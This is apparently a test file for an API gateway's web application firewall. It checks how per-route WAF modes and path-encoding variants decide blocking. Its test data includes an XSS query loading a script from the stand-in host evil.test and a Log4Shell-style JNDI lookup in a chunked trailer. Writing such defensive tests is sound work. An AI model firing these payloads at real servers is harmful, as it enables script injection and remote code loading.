// docs/waf.md#at-a-route
import { afterAll, describe, expect, test } from "bun:test";
import { EchoOrigin } from "../harness/echo-origin.ts";
import { runEdge, startGateway, upstream } from "../harness/gateway.ts";
import { H2Client, head } from "../harness/h2-client.ts";
import { chunked, json, type Reply, request } from "../harness/raw-client.ts";
import { stopAll } from "../harness/teardown.ts";

const origin = EchoOrigin.start();
const routes = [
  upstream("/plain", origin),
  upstream("/off", origin, { waf: "off" }),
  upstream("/off/strict", origin, { waf: "enforce" }),
  upstream("/watch", origin, { waf: "detection" }),
  upstream("/high", origin, { waf: { anomaly_threshold: 100 } }),
  upstream("/loose", origin, { waf: { disabled_rules: ["XSS-001"], exclusions: [] } }),
  upstream("/spared", origin, { waf: { exclusions: [{ rule: "XSS-001", param: "q" }] } }),
  { type: "upstream", path: "/exact", target: origin.url, waf: "off" },
  upstream("/through", origin, { waf: "enforce", inbound_chunked_mode: "passthrough" }),
];
const on = await startGateway({ config: { server: { waf: { enabled: true } } }, routes });
const off = await startGateway({ routes });
afterAll(async () => {
  await off.stop();
  await stopAll(on, origin);
});

const ATTACK = "q=%3Cscript%20src=//evil.test/x.js%3E";
const FORM = "Content-Type: application/x-www-form-urlencoded";
const attack = (path: string): Promise<Reply> => on.once(request(`GET ${path}?${ATTACK}`));
const inBody = (path: string): Promise<Reply> => on.once(request(`POST ${path}`, [FORM], ATTACK));

/** The path, and the statuses with the server's firewall on and off. */
const CASES: readonly (readonly [string, number, number])[] = [
  ["/plain/echo", 403, 200],
  ["/off/echo", 200, 200],
  ["/off/strict/echo", 403, 403],
  ["/watch/echo", 200, 200],
  ["/high/echo", 200, 200],
  ["/loose/echo", 200, 200],
  ["/spared/echo", 200, 200],
  ["/exact", 200, 200],
  ["/through/echo", 403, 403],
  ["/nowhere", 403, 404],
  // Other spellings belong to the route that answers.
  ["/off/../plain/echo", 403, 200],
  ["//off/strict/echo", 403, 403],
  ["/off//strict/echo", 403, 403],
  ["/off/%73trict/echo", 403, 403],
  ["/o%66f/strict/echo", 403, 403],
  ["/off/x/../strict/echo", 403, 403],
  ["/plain/../off/echo", 200, 200],
];

describe.each(CASES)("an attack on %s", (path, withServer, without) => {
  test("in the query is judged by the firewall of the route that answers", async () => {
    expect((await attack(path)).status).toBe(withServer);
    expect((await off.once(request(`GET ${path}?${ATTACK}`))).status).toBe(without);
  });

  test("in the body as well", async () => {
    // Nothing takes the body where there is no route.
    expect((await inBody(path)).status).toBe(path === "/nowhere" ? 404 : withServer);
    expect((await off.once(request(`POST ${path}`, [FORM], ATTACK))).status).toBe(without);
  });
});

describe("what holds for both", () => {
  test("trailers of gathered and of streamed bodies are judged by the route", async () => {
    const trailer = ["X-Late: ${jndi:ldap://evil.test/a}"];
    const post = (path: string): Buffer =>
      request(`POST ${path}`, ["Transfer-Encoding: chunked"], chunked("a=1", 3, trailer));
    expect((await on.once(post("/off/echo"))).status).toBe(200);
    expect((await on.once(post("/off/strict/echo"))).status).toBe(403);
    expect((await off.once(post("/through/echo"))).status).toBe(403);
    expect((await off.once(post("/plain/echo"))).status).toBe(200);
  });

  test("one connection with requests for routes in turns", async () => {
    const client = await H2Client.connect(on.port);
    for (const [path, status] of [
      ["/off/echo", 200],
      ["/loose/echo", 200],
      ["/spared/echo", 200],
      ["/plain/echo", 403],
    ] as const)
      expect([path, (await client.request(head("GET", `${path}?${ATTACK}`))).status]).toEqual([path, status]);
    client.close();
  });

  test("only what is judged is counted, and detection is logged", async () => {
    const before = await on.metric("gateway_waf_inspected_requests_total");
    await attack("/off/echo");
    await on.once(request(`GET /watch/echo?${ATTACK}`, ["X-Request-Id: watched"]));
    // Those of the metrics themselves are judged by the server's.
    const after = await on.metric("gateway_waf_inspected_requests_total");
    expect(after - before).toBe(2);
    const line = await on.log("detection", (one) => one.event === "waf_detect" && one.request_id === "watched");
    expect(line).toMatchObject({ category: "xss", action: "logged" });
  });

  test("/internal/api/routes shows it", async () => {
    const { routes: listed } = json<{ routes: { prefix?: string; waf?: object }[] }>(
      await on.once("GET /internal/api/routes HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    );
    const wafAt = (prefix: string): object | undefined => listed.find((one) => one.prefix === prefix)?.waf;
    expect(wafAt("/plain")).toBeUndefined();
    expect(wafAt("/off")).toEqual({ mode: "off" });
    expect(wafAt("/high")).toEqual({ anomaly_threshold: 100 });
  });
});

describe("the commands", () => {
  const run = (args: readonly string[], more: readonly object[] = []) =>
    runEdge([...args, "--config", "config.yaml"], {
      config: { server: { waf: { enabled: true } } },
      routes: [...routes, ...(more as typeof routes)],
    });

  test.each([
    ["/plain/x", 1, "blocked with 403"],
    ["/off/x", 0, "the firewall is off"],
    ["/off/strict/x", 1, "blocked with 403"],
    ["/watch/x", 0, "the mode is detection"],
    ["/high/x", 0, "100 blocks"],
    ["/loose/x", 0, "no match"],
  ])("edge waf test of %s", async (path, exitCode, text) => {
    const { code, stdout } = await run(["waf", "test", `GET ${path}?${ATTACK}`]);
    expect([code, stdout]).toEqual([exitCode, expect.stringContaining(text)]);
  });

  test("edge check says so, finds rules that do not exist, and lists what was written", async () => {
    expect((await run(["check"])).stdout).toContain("firewall on (enforce), of its own at 8 routes");
    const { stderr } = await run(["check"], [upstream("/x", origin, { waf: { disabled_rules: ["XSS-01"] } })]);
    expect(stderr).toMatch(
      /routes\.yaml:\d+:\d+: (routes)?\[9\]\.waf\.disabled_rules\[0\]: expected the name of a WAF rule, found "XSS-01"/,
    );
    const wrong = await run(["check"], [upstream("/x", origin, { waf: "maybe" })]);
    expect(wrong.stderr).toMatch(/\.waf\.mode: expected enforce, detection or off, found "maybe"/);
    expect((await run(["check", "--print"])).stdout).toMatch(/waf:\n\s+mode: "?off"?/);
  });
});
